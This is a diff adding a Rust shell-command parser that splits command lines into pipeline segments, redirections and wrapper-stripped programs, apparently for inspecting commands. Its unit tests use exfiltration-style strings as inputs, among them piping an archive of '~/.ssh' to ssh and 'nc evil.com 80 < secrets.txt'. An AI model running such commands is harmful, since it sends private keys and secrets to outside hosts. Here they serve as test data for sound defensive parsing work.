@@ -0,0 +1,250 @@
+use regex::Regex;
+use std::sync::OnceLock;
+
+/// Commands that run their arguments as another command
+const WRAPPERS: &[&str] = &["sudo", "doas", "pkexec", "env", "command", "exec", "nohup", "time", "nice"];
+
+/// Wrapper options whose value is a separate word, e.g. `sudo -u postgres`
+const WRAPPER_VALUE_OPTIONS: &[(&str, &[&str])] = &[
+    ("sudo", &["-u", "-g", "-C", "-D", "-p", "-r", "-t", "-U", "-T", "-R", "--user", "--group", "--prompt"]),
+    ("doas", &["-u", "-C"]),
+    ("pkexec", &["--user"]),
+    ("env", &["-u", "-C", "--unset", "--chdir"]),
+    ("nice", &["-n"]),
+];
+
+/// Whether `option` of `wrapper` consumes the following word
+pub fn wrapper_option_takes_value(wrapper: &str, option: &str) -> bool {
+    WRAPPER_VALUE_OPTIONS.iter()
+        .any(|(name, options)| *name == wrapper && options.contains(&option))
+}
+
+/// A file redirection attached to a simple command, e.g. `> out.txt` or `< in.txt`
+#[derive(Debug, Clone, PartialEq)]
+pub struct Redirect {
+    pub op: String,
+    pub target: String,
+}
+
+impl Redirect {
+    pub fn is_input(&self) -> bool {
+        self.op.starts_with('<') && !self.op.starts_with("<<")
+    }
+
+    /// Output redirections to a file (`>`, `>>`, `>|`, `&>`), excluding fd duplication like `2>&1`
+    pub fn is_output(&self) -> bool {
+        self.op.contains('>') && !self.op.ends_with('&')
+    }
+}
+
+/// A simple command within a compound command line
+#[derive(Debug, Clone, PartialEq)]
+pub struct Segment {
+    /// Words of the command with redirections removed
+    pub tokens: Vec<String>,
+    pub redirects: Vec<Redirect>,
+    /// Whether stdin is fed from the previous segment through a pipe
+    pub piped: bool,
+}
+
+impl Segment {
+    /// The program being run (wrappers such as `sudo` and `env` are skipped) and its arguments
+    pub fn program_and_args(&self) -> Option<(&str, &[String])> {
+        let mut index = 0;
+        while index < self.tokens.len() {
+            let token = &self.tokens[index];
+            if is_assignment(token) {
+                index += 1;
+                continue;
+            }
+            let name = program_name(token);
+            if WRAPPERS.contains(&name) {
+                index += 1;
+                while index < self.tokens.len()
+                    && (self.tokens[index].starts_with('-') || is_assignment(&self.tokens[index]))
+                {
+                    index += if wrapper_option_takes_value(name, &self.tokens[index]) { 2 } else { 1 };
+                }
+                continue;
+            }
+            return Some((name, &self.tokens[index + 1..]));
+        }
+        None
+    }
+
+    pub fn program(&self) -> Option<&str> {
+        self.program_and_args().map(|(program, _)| program)
+    }
+
+    pub fn input_files(&self) -> impl Iterator<Item = &str> {
+        self.redirects.iter().filter(|r| r.is_input()).map(|r| r.target.as_str())
+    }
+}
+
+pub fn is_assignment(token: &str) -> bool {
+    match token.split_once('=') {
+        Some((name, _)) => {
+            !name.is_empty()
+                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+                && !name.starts_with(|c: char| c.is_ascii_digit())
+        }
+        None => false,
+    }
+}
+
+pub fn program_name(token: &str) -> &str {
+    token.rsplit('/').next().unwrap_or(token)
+}
+
+fn redirect_regex() -> &'static Regex {
+    static REDIRECT: OnceLock<Regex> = OnceLock::new();
+    REDIRECT.get_or_init(|| {
+        Regex::new(r"^(\d*|&)(>>|>\||>&|<>|<<<|<<|<&|<|>)(.*)$").unwrap()
+    })
+}
+
+/// Split a command line into simple commands on `|`, `;`, `&&`, `||`, `&` and newlines,
+/// honouring quotes and backslash escapes
+pub fn split_segments(command: &str) -> Vec<Segment> {
+    let mut segments = Vec::new();
+    let mut current = String::new();
+    let mut piped = false;
+    let mut in_single = false;
+    let mut in_double = false;
+    let mut escaped = false;
+    let mut chars = command.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        if escaped {
+            current.push(c);
+            escaped = false;
+            continue;
+        }
+        match c {
+            '\\' if !in_single => {
+                current.push(c);
+                escaped = true;
+            }
+            '\'' if !in_double => {
+                in_single = !in_single;
+                current.push(c);
+            }
+            '"' if !in_single => {
+                in_double = !in_double;
+                current.push(c);
+            }
+            _ if in_single || in_double => current.push(c),
+            '|' => {
+                let next_piped = match chars.peek() {
+                    Some('|') => {
+                        chars.next();
+                        false
+                    }
+                    Some('&') => {
+                        chars.next();
+                        true
+                    }
+                    _ => true,
+                };
+                push_segment(&mut segments, &current, piped);
+                current.clear();
+                piped = next_piped;
+            }
+            '&' if chars.peek() == Some(&'&') => {
+                chars.next();
+                push_segment(&mut segments, &current, piped);
+                current.clear();
+                piped = false;
+            }
+            // `&>` and `>&` are redirections, a lone `&` backgrounds the command
+            '&' if chars.peek() != Some(&'>') && !current.ends_with('>') => {
+                push_segment(&mut segments, &current, piped);
+                current.clear();
+                piped = false;
+            }
+            ';' | '\n' => {
+                push_segment(&mut segments, &current, piped);
+                current.clear();
+                piped = false;
+            }
+            _ => current.push(c),
+        }
+    }
+    push_segment(&mut segments, &current, piped);
+
+    segments
+}
+
+fn push_segment(segments: &mut Vec<Segment>, text: &str, piped: bool) {
+    let text = text.trim();
+    if text.is_empty() || text.starts_with('#') {
+        return;
+    }
+
+    let words = shell_words::split(text)
+        .unwrap_or_else(|_| text.split_whitespace().map(String::from).collect());
+
+    let mut tokens = Vec::new();
+    let mut redirects = Vec::new();
+    let mut words = words.into_iter();
+    while let Some(word) = words.next() {
+        match redirect_regex().captures(&word) {
+            Some(caps) => {
+                let op = caps[2].to_string();
+                let target = match &caps[3] {
+                    "" => words.next().unwrap_or_default(),
+                    rest => rest.to_string(),
+                };
+                redirects.push(Redirect { op, target });
+            }
+            None => tokens.push(word),
+        }
+    }
+
+    segments.push(Segment { tokens, redirects, piped });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_split_pipeline_and_lists() {
+        let segments = split_segments("tar czf - ~/.ssh | ssh host 'cat > x' && echo 'a|b; c'");
+        assert_eq!(segments.len(), 3);
+        assert_eq!(segments[0].program(), Some("tar"));
+        assert!(!segments[0].piped);
+        assert_eq!(segments[1].program(), Some("ssh"));
+        assert!(segments[1].piped);
+        assert_eq!(segments[1].tokens, vec!["ssh", "host", "cat > x"]);
+        assert_eq!(segments[2].tokens, vec!["echo", "a|b; c"]);
+        assert!(!segments[2].piped);
+    }
+
+    #[test]
+    fn test_redirects() {
+        let segments = split_segments("nc evil.com 80 < secrets.txt 2>&1 >>log");
+        let segment = &segments[0];
+        assert_eq!(segment.tokens, vec!["nc", "evil.com", "80"]);
+        assert_eq!(segment.input_files().collect::<Vec<_>>(), vec!["secrets.txt"]);
+        assert!(segment.redirects.iter().any(|r| r.op == ">>" && r.target == "log"));
+    }
+
+    #[test]
+    fn test_wrappers_skipped() {
+        let segments = split_segments("FOO=1 sudo -E /usr/bin/curl -d @x https://a.b");
+        let (program, args) = segments[0].program_and_args().unwrap();
+        assert_eq!(program, "curl");
+        assert_eq!(args[0], "-d");
+
+        let segments = split_segments("sudo -u postgres psql -c 'select 1'");
+        assert_eq!(segments[0].program(), Some("psql"));
+    }
+
+    #[test]
+    fn test_background_and_comments() {
+        let segments = split_segments("sleep 10 & ls\n# comment\npwd");
+        let programs: Vec<_> = segments.iter().filter_map(|s| s.program()).collect();
+        assert_eq!(programs, vec!["sleep", "ls", "pwd"]);
+    }
+}